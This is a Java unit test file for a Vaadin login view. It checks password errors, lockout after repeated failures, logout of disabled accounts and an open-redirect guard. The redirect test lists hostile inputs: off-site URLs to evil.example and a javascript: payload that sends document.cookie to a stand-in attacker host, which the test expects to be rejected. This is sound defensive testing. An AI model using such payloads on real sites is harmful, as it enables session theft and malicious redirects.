package org.drillgrid.ui.auth;

import static com.github.mvysny.kaributesting.v10.LocatorJ._get;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.vaadin.flow.component.UI;
import com.vaadin.flow.component.login.LoginForm;
import org.drillgrid.ui.AppTest;
import org.drillgrid.ui.TestApp;
import org.drillgrid.ui.lobby.LobbyView;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class LoginViewTest extends AppTest {

    @BeforeEach
    void setUp() {
        app.accounts.create("zhang.san", TestApp.PASSWORD, Role.CONTROLLER, null);
    }

    private LoginView openLogin(String next) {
        UI.getCurrent().navigate(next);
        return (LoginView) UI.getCurrent().getInternals().getActiveRouterTargetsChain().get(0);
    }

    @Test
    void aWrongPasswordShowsTheErrorAndLogsNobodyIn() {
        LoginView view = openLogin("");
        view.login("zhang.san", "not the password");
        assertTrue(_get(LoginForm.class).isError());
        assertEquals("用户名或密码错误。", view.error());
        assertFalse(CurrentUser.get().isPresent());
    }

    @Test
    void theRightPasswordLogsInAndGoesWhereTheUserWanted() {
        LoginView view = openLogin("users");
        assertEquals("login?next=users", UI.getCurrent().getInternals().getActiveViewLocation().getPathWithQueryParameters());
        view.login("zhang.san", TestApp.PASSWORD);
        assertEquals("zhang.san", CurrentUser.get().orElseThrow().username());
        // the browser is sent to the page it wanted (a page load); a controller may not manage users
        UI.getCurrent().navigate("users");
        assertEquals(ForbiddenView.class, UI.getCurrent().getInternals().getActiveRouterTargetsChain().get(0).getClass());
        UI.getCurrent().navigate("");
        assertEquals(LobbyView.class, UI.getCurrent().getInternals().getActiveRouterTargetsChain().get(0).getClass());
    }

    @Test
    void afterFiveFailuresEvenTheRightPasswordWaits() {
        LoginView view = openLogin("");
        for (int i = 0; i < Accounts.FREE_FAILURES; i++) {
            view.login("zhang.san", "wrong " + i);
        }
        view.login("zhang.san", TestApp.PASSWORD);
        assertFalse(CurrentUser.get().isPresent());
        assertTrue(view.error().startsWith("登录失败次数过多"));
    }

    @Test
    void anAccountDisabledAfterLoginIsLoggedOutAtItsNextPage() {
        openLogin("").login("zhang.san", TestApp.PASSWORD);
        UI.getCurrent().navigate("");
        assertEquals(LobbyView.class, UI.getCurrent().getInternals().getActiveRouterTargetsChain().get(0).getClass());
        app.accounts.setDisabled("zhang.san", true);
        UI.getCurrent().navigate("scenarios");
        assertEquals(LoginView.class, UI.getCurrent().getInternals().getActiveRouterTargetsChain().get(0).getClass());
        assertFalse(CurrentUser.get().isPresent());
    }

    @Test
    void onlyPathsInsideTheAppAreFollowedAfterLogin() {
        assertEquals("", LoginView.safeNext("https://evil.example/"));
        assertEquals("", LoginView.safeNext("//evil.example"));
        assertEquals("", LoginView.safeNext("login?next=x"));
        assertEquals("", LoginView.safeNext("javascript:fetch('//evil/'+document.cookie)"));
        assertEquals("", LoginView.safeNext(" //evil.example"));
        assertEquals("", LoginView.safeNext("\t/\t/evil.example"));
        assertEquals("", LoginView.safeNext("https:evil.example"));
        assertEquals("review/abc", LoginView.safeNext("review/abc"));
        assertEquals("control/5f0c-9a", LoginView.safeNext("control/5f0c-9a"));
    }
}
